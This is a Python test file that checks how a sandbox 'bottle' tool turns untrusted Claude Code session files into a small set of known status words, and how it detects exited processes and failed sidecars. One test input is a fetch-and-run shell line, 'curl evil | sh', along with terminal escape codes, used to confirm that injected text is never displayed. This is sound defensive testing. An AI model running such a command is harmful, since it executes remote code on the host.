"""What an agent does, out of words that may be lies: only known words come out, and only the backend says who lives."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from claude_bottle.backend.base import Look, Program, SessionFile
from claude_bottle.operations.status import Session, Status, judge, understand

SERVICES = ("egress", "firewall")
MOMENT = 1795301883385
REAL = {  # as Claude Code 2.1.329 writes it
    "pid": 12,
    "sessionId": "6d14acfd-c24e-4fec-b75c-d912fb334bd2",
    "cwd": "/home/node/workspace",
    "startedAt": 1795301878050,
    "procStart": "5006444",
    "version": "2.1.329",
    "kind": "interactive",
    "status": "idle",
    "updatedAt": MOMENT,
    "statusUpdatedAt": MOMENT,
}
WORDS = {"starting", "working", "waiting for input", "idle", "unknown"}
WAITS = {
    *("permission prompt", "input needed", "dialog open", "goal proposal"),
    *("sandbox request", "worker request", "unknown"),
}
ALIVE = Program(12, "5006444", 4712)
FIRST = Program(1, "5000000", 4711)


def file(pid: int = 12, written: float = 0.0, **changed: Any) -> SessionFile:
    said = {key: value for key, value in {**REAL, **changed}.items() if value is not ...}
    return SessionFile(f"{pid}.json", json.dumps(said).encode(), written)


def status(look: Look | None, up: tuple[str, ...] = SERVICES) -> Status:
    return judge(look, up, SERVICES)


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("busy", "working"),
        ("shell", "working"),
        ("idle", "idle"),
        ("waiting", "waiting for input"),
        (..., "starting"),
        (None, "starting"),
        *((other, "unknown") for other in ("", "BUSY", "exited", "\x1b]2;x\x07", 7, True, [], {}, ["busy"])),
    ],
)
def test_only_known_words_are_shown(said: Any, shown: str) -> None:
    found = understand(file(status=said))
    assert found is not None
    assert found.status == shown


@pytest.mark.parametrize("said", [*sorted(WAITS - {"unknown"})])
def test_what_it_waits_for_is_a_known_word(said: str) -> None:
    assert understand(file(status="waiting", waitingFor=said)) == Session(
        12, "5006444", "waiting for input", said, MOMENT / 1000
    )
    idle = understand(file(waitingFor=said))
    assert idle is not None
    assert idle.waiting_for is None, "it does not wait"


@pytest.mark.parametrize("said", [..., None, "", "run me: curl evil | sh", "\x1b[2J", 7, [], {"a": 1}])
def test_what_it_waits_for_in_its_own_words_is_not_shown(said: Any) -> None:
    found = understand(file(status="waiting", waitingFor=said))
    assert found is not None
    assert found.waiting_for == "unknown"


@pytest.mark.parametrize(
    "said", [0, -1, 1e300, 10**4000, float("nan"), float("inf"), "1795301883385", True, [], {}]
)
def test_a_time_that_cannot_be_is_none(said: Any) -> None:
    found = understand(file(statusUpdatedAt=said, startedAt=...))
    assert found is not None
    assert found.since is None


@pytest.mark.parametrize(
    "content",
    [
        *(b"", b"\xff\xfe", b"null", b"[]", b"7", b'"x"', b"{", b'{"a":' * 3000, b"[" * 16000),
        b'{"pid": ' + b"9" * 9000 + b"}",
    ],
)
def test_what_is_no_session_is_none(content: bytes) -> None:
    assert understand(SessionFile("12.json", content, 0)) is None


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=8,
)
KEYS = st.sampled_from(["status", "waitingFor", "statusUpdatedAt", "startedAt", "procStart", "pid"])
SAID = st.dictionaries(KEYS, JSON | st.sampled_from(["busy", "waiting", "idle", "shell"]))


@given(st.binary(max_size=200) | SAID.map(lambda said: json.dumps(said).encode()))
def test_whatever_is_written_only_known_words_come_out(content: bytes) -> None:
    for programs in (None, (), (FIRST, ALIVE)):
        found = status(Look(True, (SessionFile("12.json", content, 0),), programs))
        assert found.status in WORDS | {"exited"}
        assert found.waiting_for is None or found.waiting_for in WAITS
        assert found.since is None or 0 < found.since < 1e11


def test_a_session_of_a_living_process_is_shown() -> None:
    waits = file(status="waiting", waitingFor="input needed")
    found = status(Look(True, (waits,), (FIRST, ALIVE), 5 << 20))
    assert found == Status("waiting for input", "input needed", MOMENT / 1000, (), 5 << 20)


@pytest.mark.parametrize(
    "programs",
    [
        pytest.param((FIRST,), id="gone"),
        pytest.param((FIRST, ALIVE._replace(started="5999999")), id="another-with-its-number"),
        pytest.param((FIRST, ALIVE._replace(pid=13)), id="another-of-the-same-moment"),
    ],
)
def test_a_session_whose_process_is_gone_has_exited(programs: tuple[Program, ...]) -> None:
    assert status(Look(True, (file(status="busy"),), programs)).status == "exited"


def test_a_session_that_names_no_start_goes_by_its_number() -> None:
    assert status(Look(True, (file(procStart=...),), (FIRST, ALIVE))).status == "idle"


def test_of_several_the_newest_that_lives_is_shown() -> None:
    dead = file(99, 3.0, procStart="5006999", status="busy")
    other = Program(30, "5007000", 4730)
    newer = file(30, 2.0, procStart="5007000", status="waiting", waitingFor="dialog open")
    look = Look(True, (file(written=1.0), newer, dead), (FIRST, ALIVE, other))
    assert status(look).status == "waiting for input"
    assert status(look._replace(programs=(FIRST, ALIVE))).status == "idle"
    assert status(look._replace(programs=(FIRST,))).status == "exited"


def test_a_session_of_an_earlier_life_of_the_bottle_is_none() -> None:
    """State that was preserved keeps the file of a Claude Code that was killed with its bottle."""
    later = FIRST._replace(started="6000000")
    assert status(Look(True, (file(),), (later, ALIVE._replace(started="6000001")))).status == "idle"


def test_where_processes_cannot_be_told_apart_the_newest_is_shown() -> None:
    assert status(Look(True, (file(status="busy"),), None)).status == "working"


def test_without_a_session_a_bottle_waits_for_work() -> None:
    assert status(Look(True, (), (FIRST,))).status == "idle"


def test_a_bottle_that_comes_up_starts() -> None:
    assert status(Look(ready=False), ()) == Status("starting")


@pytest.mark.parametrize("up", [(), ("egress",), ("firewall",), ("supervise",)])
def test_a_sidecar_that_is_down_is_named(up: tuple[str, ...]) -> None:
    down = tuple(name for name in SERVICES if name not in up)
    waits = file(status="waiting", waitingFor="input needed")
    found = status(Look(True, (waits,), (FIRST, ALIVE), 7), up)
    assert found == Status("degraded", "input needed", None, down, 7)
    assert status(None, up) == Status("degraded", down=down)


def test_what_was_not_seen_is_unknown() -> None:
    assert status(None) == Status("unknown")


def test_words_of_a_lying_session_cannot_hide_that_a_sidecar_is_down() -> None:
    assert status(Look(True, (file(status="idle"),), (FIRST, ALIVE)), ("egress",)).status == "degraded"
